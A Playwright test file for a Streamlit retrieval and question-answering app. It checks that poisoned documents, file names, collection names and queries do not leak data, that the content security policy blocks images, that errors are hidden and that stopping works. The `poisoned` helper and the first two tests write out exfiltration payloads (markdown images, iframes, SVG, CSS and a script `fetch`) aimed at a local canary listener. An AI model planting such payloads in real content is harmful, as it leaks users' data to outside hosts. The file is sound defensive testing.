"""On a server of their own: a poisoned document that calls nobody, work that is stopped, a page that fails."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.browser.harness import ROOT, Server, Visitor, served
from tests.waiting import until

if TYPE_CHECKING:
    from playwright.sync_api import Browser


class Canary(ThreadingHTTPServer):
    """Listens on this machine and notes whoever comes."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Listener)
        self.visits: list[str] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/leak"


class Listener(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Canary)
        self.server.visits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        """Stay silent."""


@pytest.fixture
def canary() -> Iterator[Canary]:
    server = Canary()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def own_server(browser: Browser, tmp_path: Path) -> Iterator[Server]:
    """A server of this test's own, over an empty folder."""
    with served(tmp_path / "data") as server:
        yield server


def poisoned(address: str) -> str:
    """Return a document whose every sentence tries another way out; all of them answer the same question."""
    ways = (
        f"![secret]({address}?inline)", f"![secret][r]\n\n[r]: {address}?reference", f'<img src="{address}?html">',
        f'<iframe src="{address}?frame"></iframe>', f'<script>fetch("{address}?script")</script>',
        f'<svg><image href="{address}?svg"/></svg>', f'<link rel="stylesheet" href="{address}?css">', f"[click]({address}?link)",
        f'<div style="background:url({address}?style)">', f"<{address}?auto>", f"{address}?bare", ":material/home: :red[$x$]",
    )  # fmt: skip
    return "\n\n".join(
        f"The secret of the lighthouse keeper number {n} is {way} and nothing else." for n, way in enumerate(ways)
    )


def test_nothing_poisoned_calls_out(browser: Browser, own_server: Server, canary: Canary) -> None:
    """Preview, report, library, results, passage, streamed and stored answer, titles and errors: no request leaves the server."""
    tab = Visitor(browser, own_server)
    name = f"![x]({canary.address}?name).md"
    text = poisoned(canary.address).encode()
    tab.go("documents").drop((name, text), (f"![y]({canary.address}?broken).pdf", b"%PDF-1.7 nothing"))
    assert "secret of the lighthouse" in tab.text("preview-sheet")
    tab.add_all()
    assert "failed" in tab.text("documents-report")
    question = f"What is the secret of the lighthouse keeper ![q]({canary.address}?question) ?"
    tab.go("ask").ask(question)
    assert "secret" in tab.text("ask-last")
    tab.page.locator("button.marker").first.click()
    tab.idle()
    tab.page.reload()
    tab.idle()
    tab.press("Conversations")
    tab.go("search?q=secret+of+the+lighthouse+keeper")
    tab.page.get_by_role("button", name="Open in document").first.click()
    tab.idle(500)
    for path in ("collections", "usage", "settings", f"search?q=![u]({canary.address}?url)", "ask?c=![c]"):
        tab.go(path)
    assert [] == canary.visits
    assert [] == tab.strangers
    tab.page.close()


def test_hostile_collection_names_stay_text(browser: Browser, own_server: Server, canary: Canary) -> None:
    """A name that the user was talked into is as harmless as any other, on every page that shows it."""
    tab = Visitor(browser, own_server)
    tab.go("documents").drop(("a.txt", b"The tower is tall. " * 50)).add_all()
    tab.go("collections")
    tab.page.get_by_label("Name", exact=True).fill(f"![x]({canary.address})"[:60])
    tab.page.get_by_role("button", name="Build", exact=False).last.click()
    tab.page.locator(".st-key-collections-report-build").wait_for(timeout=60_000)
    for path in ("documents", "collections", "search?q=tower", "ask"):
        tab.go(path)
    assert [] == canary.visits + tab.strangers
    tab.page.close()


def test_the_second_wall_stands(browser: Browser, own_server: Server, canary: Canary) -> None:
    """Were the first wall to fail, the browser itself refuses: an image put on the page by hand is not fetched."""
    tab = Visitor(browser, own_server).go("settings")
    refused = tab.page.evaluate(
        """(address) => new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
          const image = new Image(); image.src = address; document.body.append(image);
          setTimeout(() => resolve("nothing was refused"), 3000);
        })""",
        canary.address,
    )
    assert "img-src" == refused
    assert [] == canary.visits
    tab.page.close()


def test_an_unforeseen_error_is_one_sentence(browser: Browser, tmp_path: Path) -> None:
    """A page that fails shows what to do; no traceback, no message of the error and no path reach the browser."""
    (tmp_path / "broken.py").write_text("raise ZeroDivisionError('secret detail')\n", encoding="utf-8")
    script = tmp_path / "served.py"
    script.write_text(
        "import streamlit as st\nfrom app import explain\n"
        f"app = st.App({str(tmp_path / 'broken.py')!r}, on_script_error=explain)\n",
        encoding="utf-8",
    )
    with served(tmp_path / "data", script) as server:
        tab = Visitor(browser, server).go("")
        shown = tab.page.locator("[data-testid=stApp]").inner_text()
        assert "This page failed (ZeroDivisionError)" in shown
        assert "secret detail" not in shown and "broken.py" not in shown and "Traceback" not in shown
        tab.page.close()


def test_a_stopped_job_keeps_what_is_finished(browser: Browser, own_server: Server) -> None:
    """Stop ends the work at once: the report says so, and a document that was not finished is not in the library."""
    tab = Visitor(browser, own_server)
    long = " ".join(
        f"Paragraph {n} of the keeper's diary tells of wind, rain and {n} ships." for n in range(9000)
    ).encode()
    tab.go("documents").drop(("short.txt", b"The tower is tall. " * 30), ("long.txt", long))
    tab.page.locator(".st-key-preview-add button").click()
    tab.page.get_by_role("button", name="Stop").click(timeout=60_000)
    tab.page.locator(".st-key-documents-report").wait_for(timeout=60_000)
    assert "stopped" in tab.idle().text("documents-report")
    assert "long.txt" not in tab.text("documents-report")
    tab.page.close()


SLOW = """
import time
import streamlit as st
import app as workbench
from rag.generation.extractive import ExtractiveModel

quick = ExtractiveModel.stream

def slow(self, request, stop):
    for event in quick(self, request, stop):
        time.sleep(0.12)
        yield event

ExtractiveModel.stream = slow
app = st.App({frame!r}, lifespan=workbench.lifespan, on_script_error=workbench.explain)
"""


@pytest.fixture
def slow_server(browser: Browser, tmp_path: Path, with_samples: Callable[[Path], Path]) -> Iterator[Server]:
    """The sample documents, answered at the speed of a remote model."""
    with_samples(tmp_path / "data")
    script = tmp_path / "slow.py"
    script.write_text(SLOW.format(frame=str(ROOT / "pages" / "_frame.py")), encoding="utf-8")
    with served(tmp_path / "data", script) as server:
        yield server


def test_an_answer_streams_stops_and_survives(browser: Browser, slow_server: Server) -> None:
    """Words appear while the model writes; another page does not end them; Stop does, at once, and keeps what is there."""
    tab = Visitor(browser, slow_server).go("ask")
    tab.page.get_by_test_id("stChatInputTextArea").fill("Why was turbine 3 out of service and for how long?")
    tab.page.keyboard.press("Enter")
    running = tab.page.locator(".st-key-ask-last .said")
    running.get_by_text("turbine").first.wait_for(timeout=15_000)
    first = len(running.inner_text())
    until(lambda: len(running.inner_text()) > first)
    tab.page.get_by_test_id("stSidebarNavLink").filter(has_text="Usage").click()
    tab.idle()
    tab.page.get_by_test_id("stSidebarNavLink").filter(has_text="Ask").click()
    running.get_by_text("turbine").first.wait_for(timeout=15_000)
    tab.page.get_by_role("button", name="Stop").click()
    tab.page.locator(".chip", has_text="Stopped").wait_for(timeout=3_000)
    assert "turbine" in tab.text("ask-last")
    tab.page.close()


def test_an_earlier_question_asked_again_streams_in_its_place(browser: Browser, slow_server: Server) -> None:
    """Its words grow above the question after it and in view, with Stop; once it has ended nothing has moved."""
    tab = Visitor(browser, slow_server, height=700).go("ask")
    for question in ("How do I renew a British passport?", "Who composed the opera Fidelio?"):
        tab.ask(question)
    first = tab.page.locator("section.turn").first
    first.get_by_role("button", name="Edit").click()
    tab.page.get_by_role("dialog").get_by_role("textbox").fill("Why was turbine 3 out of service and for how long?")
    tab.page.get_by_role("dialog").get_by_role("button", name="Ask").click()
    running = first.locator(".said")
    running.get_by_text("turbine").first.wait_for(timeout=15_000)
    before = len(running.inner_text())
    until(lambda: len(running.inner_text()) > before)
    assert 0 <= first.bounding_box()["y"] < 600  # type: ignore[index]
    assert "Fidelio" in tab.page.locator("section.turn").last.inner_text()
    assert 0 == tab.page.get_by_text("Incomplete").count()
    node = first.element_handle()
    tab.page.get_by_role("button", name="Stop").click()
    first.locator(".chip", has_text="Stopped").wait_for(timeout=3_000)
    assert node.evaluate("node => node.isConnected"), "drawn anew, in another place"
    assert [] == tab.errors
    tab.page.close()
